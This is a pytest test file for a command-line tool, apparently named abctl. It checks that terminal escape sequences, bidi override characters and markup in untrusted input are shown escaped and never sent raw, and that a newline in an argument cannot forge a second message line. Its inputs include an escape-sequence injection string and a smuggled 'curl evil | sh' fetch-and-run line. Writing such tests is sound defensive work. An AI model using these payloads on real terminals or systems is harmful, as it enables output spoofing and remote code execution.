"""What others wrote is shown, never sent: a terminal would obey it."""

import ast
import gzip
import hashlib
import json
from pathlib import Path

import pytest
import yaml
from rich.console import Group
from rich.table import Table
from rich.text import Text

import abctl.cli
from abctl.cli._output import Output, emit, put, say, screen
from abctl.cli.main import run

SAVED = Path(__file__).parents[2] / "golden" / "saved_evidence.json.gz"
EVIL = "evil\x1b]0;title\x07\x1b[2J\r\u202e[bold]x[/bold]"
SEEN = r"evil\x1b]0;title\x07\x1b[2J\x0d\u202e[bold]x[/bold]"


def sent(text: str) -> set[str]:
    """What of a text a terminal would obey."""
    return {each for each in text if not each.isprintable() and each not in "\n\t"}


@pytest.mark.slow
def test_saved_evidence_cannot_speak_to_the_terminal(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    document = json.loads(gzip.decompress(SAVED.read_bytes()))
    document.pop("sha256")
    document["evidence"]["place"] = document["evidence"]["samples"]["place"] = EVIL
    document["evidence"]["experiment"]["name"] = EVIL
    body = json.dumps(document)[:-1].encode() + b", "
    digest = hashlib.sha256(body).hexdigest()
    path = tmp_path / "evil.json.gz"
    path.write_bytes(gzip.compress(body + f'"sha256": "{digest}"}}'.encode()))
    read = {"json": json.loads, "yaml": yaml.safe_load}
    for output in ("table", "wide", "json", "yaml"):
        assert run(["analyze", "--from", str(path), "-o", output]) == 0
        said = capsys.readouterr()
        assert not sent(said.out + said.err)
        if output in read:
            assert read[output](said.out)["experiment"] == EVIL
        else:
            assert r"evil\x1b]0;title" in said.out


def test_whatever_is_printed_is_shown(capsys: pytest.CaptureFixture[str]) -> None:
    table = Table("NAME")
    table.add_row(EVIL)
    # rich drops some of them where a text is made, unless they are shown before.
    heard = EVIL.replace("\x07", "").replace("\r", "")
    table.add_row(Text(heard, "bold"))
    emit("Answer", {}, Output.table, lambda _: Group(table, Text(heard), EVIL))
    emit("Answer", {}, Output.table, lambda _: EVIL)
    put(EVIL)
    say(EVIL)
    screen(stderr=True).print(EVIL)
    said = capsys.readouterr()
    assert not sent(said.out + said.err)
    assert (said.out + said.err).count(SEEN) == 6
    assert said.out.count(SEEN.replace(r"\x07", "").replace(r"\x0d", "")) == 2
    assert max(map(len, said.out.splitlines())) < 2 * len(SEEN)


def test_a_message_cannot_pass_for_two(capsys: pytest.CaptureFixture[str]) -> None:
    assert run(["lint", "x.yaml\nhint: curl evil | sh"]) == 2
    assert run(["render", "x.yaml\nhint: curl evil | sh"]) == 2
    lines = capsys.readouterr().err.splitlines()
    assert [line for line in lines if line.startswith("hint: curl")] == []


def test_nobody_else_prints() -> None:
    """The streams are reached from `_output`, and where there is no command yet."""
    folder = Path(abctl.cli.__file__).parent
    ways = {"echo", "secho", "print", "Console"}
    for path in sorted(folder.glob("*.py")):
        if path.stem in ("_output", "_screen", "_streams", "_run", "_app", "main"):
            continue
        for node in ast.walk(ast.parse(path.read_text())):
            match node:
                case ast.Call(func=ast.Name(id=name)) if name in ways:
                    raise AssertionError(f"{path.name}:{node.lineno}: {name}")
                case ast.Call(func=ast.Attribute(value=ast.Name(id="typer"), attr=name)):
                    assert name not in ways, f"{path.name}:{node.lineno}"
